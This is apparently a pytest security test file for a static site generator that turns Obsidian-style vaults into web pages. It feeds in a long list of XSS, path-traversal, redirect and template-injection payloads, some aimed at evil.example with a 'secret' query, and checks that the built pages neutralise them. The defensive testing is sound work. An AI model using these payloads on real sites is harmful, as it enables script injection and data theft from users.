"""Text from outside, in every place of a vault: on the site it is read, never obeyed."""

from __future__ import annotations

import json
from pathlib import Path
from xml.etree import ElementTree

import pytest

from tests.site.scratch import Scratch

PAYLOADS = (
    "<script>alert(1)</script>", '"><svg onload=alert(1)>', "' onmouseover='alert(1)", "</title><script>alert(1)</script>",
    "</textarea></style></noscript><script>alert(1)</script>", '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)", "[x](obsidian://new?vault=v&content=c)", "[x](//evil.example/x)", "[x](\\\\evil.example\\x)",
    '[x]( https://ok.example/" onclick="alert(1) )', "<javascript:alert(1)>", "<https://ok.example/?a=%22%3E%3Cscript%3E>",
    "![x](https://evil.example/?q=secret)", "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[r]: https://evil.example/track\n\n![r][r]", "[[x|<script>alert(1)</script>]]", '[["onclick=alert(1)]]',
    "![[../../../../etc/passwd]]", "![[https://evil.example/x.png]]",
    "```base\nviews: [{name: '<script>alert(1)</script>', type: table, order: ['<b>']}]\n```",
    "```html\n<script>alert(1)</script>\n```", '> [!"><script>] x\n> y', "> [!note]- <script>alert(1)</script>\n> y",
    "| <script>alert(1)</script> |\n| :---: |\n| <img onerror=alert(1)> |", 'text ^"><script>alert(1)</script>',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;", "\u202egnirts\x00\ufffe\x1b]0;x\x07", "\x000\x00 \x001\x00",
    "--><script>alert(1)</script>", '" autofocus onfocus="alert(1)', "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<style>@import url(https://evil.example/x.css);</style>",
    "<x onclick=alert(1) style=position:fixed>", "{{ 7*7 }}{% include 'x' %}", "\\u003cscript\\u003ealert(1)",
)  # fmt: skip
ALLOWED_SCHEMES = ("http://", "https://", "mailto:")


def hostile_site(folder: Path) -> Scratch:
    """A site whose every field is hostile; a report cites what the next source says."""
    scratch = Scratch(folder)
    for number, payload in enumerate(PAYLOADS):
        value = json.dumps(payload.replace("\x00", ""))
        kind = ("report", "source", "x")[number % 3]
        head = "".join(f"{name}: {value}\n" for name in ("title", "source_url", "status", "description", "created", "'<b>'"))
        text = f"---\n{head}kind: {kind}\ntags: [{value}, 'a{number}']\naliases: [{value}]\nlist: [{value}]\n---\n# {payload}\n\n"
        quote = f"Cited.[[n{number + 1}#^q-1|¹]]\n\n> {payload}\n\n^q-1\n"
        scratch.write(f"reports/2026/n{number}.md", f"{text}{quote}\n## {payload}\n\n{payload}\n\n- {payload}\n")
        scratch.write(f"my/embeds{number}.md", f"![[n{number}]]\n\n![[n{number}#{payload}]]\n\n[[n{number}]]\n")
    for number, name in enumerate(("<img src=x onerror=alert(1)>", "a\"b'c&d", "java script:x", "#%3Cscript%3E ?x")):
        scratch.write(f"my/{name}.md", f"# Name {number}\n\n[[Home]]")
    scratch.build(url="https://example.org/")
    return scratch


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Scratch:
    return hostile_site(tmp_path_factory.mktemp("hostile"))


def test_no_page_acts_or_fetches_and_addresses_lead_to_the_web_to_mail_or_into_the_site(site: Scratch) -> None:
    pages = [path for path in site.files() if path.endswith(".html")]
    assert len(pages) > 2 * len(PAYLOADS)
    for path in pages:
        page = site.page(path)
        for script in page.css("script"):
            assert (script.attributes.get("src") or "").startswith(("../", "assets/", "/assets/"))
            assert not script.text().strip()
        made = "iframe, object, embed, style, base, form[action*=':'], foreignObject, template, x, [http-equiv][content*=evil]"
        assert not page.css(made), path
        policy = page.css_first('meta[http-equiv="Content-Security-Policy"]')
        assert policy is not None, path
        assert "default-src 'none'" in (policy.attributes["content"] or "")
        assert "unsafe" not in (policy.attributes["content"] or "")
        for node in page.css("*"):
            given = node.attributes
            assert not [name for name in given if name.startswith("on") or name in ("style", "srcset")], (path, node.html)
            fetched = given.get("src") or given.get("poster") or (given.get("href") if node.tag == "link" else "") or ""
            assert "//" not in fetched or given.get("rel") == "canonical", (path, node.html)
            address = given.get("href") or ""
            scheme = address.partition(":")[0] if ":" in address.split("/")[0].split("?")[0].split("#")[0] else ""
            assert not scheme or address.lower().startswith(ALLOWED_SCHEMES), (path, address)
            assert not address.startswith(("//", "\\")), (path, address)


def test_the_feed_and_the_map_stay_well_formed_and_the_index_is_text_and_nothing_else(site: Scratch) -> None:
    for path in ("feed.xml", "sitemap.xml"):
        ElementTree.fromstring(site.files()[path])  # noqa: S314 - our own
    for path, data in site.files().items():
        if path.startswith("search/") and path.endswith(".js"):
            call, _, rest = data.decode("ascii").partition(",")
            assert call.startswith('researchIndex("')
            json.loads(rest.removesuffix(");\n"))


@pytest.mark.parametrize("drawing", ["<svg><script>x</script></svg>", "<svg onload='x'/>", '<!ENTITY x "y"><svg/>'])
def test_a_drawing_that_may_act_is_not_copied(tmp_path: Path, drawing: str) -> None:
    scratch = Scratch(tmp_path)
    scratch.write("img/a.svg", drawing)
    scratch.write("img/b.svg", "<svg><rect/></svg>")
    report = scratch.build()
    assert "img/a.svg" not in scratch.files()
    assert "img/b.svg" in scratch.files()
    assert report.notices == ("img/a.svg is not copied: it may run scripts",)


def test_properties_that_cannot_be_read_do_not_hide_the_note(tmp_path: Path) -> None:
    scratch = Scratch(tmp_path)
    scratch.write("my/a.md", "---\ntitle: [unclosed\n\tx: y\n---\n\nThe text.")
    scratch.write("my/b.md", b"\xff\xfe not UTF-8 \xc3")
    scratch.write("my/c.md", "---\n&a [*a]\n---\n" + "> " * 500 + "deep\n" + "[" * 500)
    scratch.build()
    assert "The text." in scratch.html("my/a.html")
    assert "not UTF-8" in scratch.html("my/b.html")
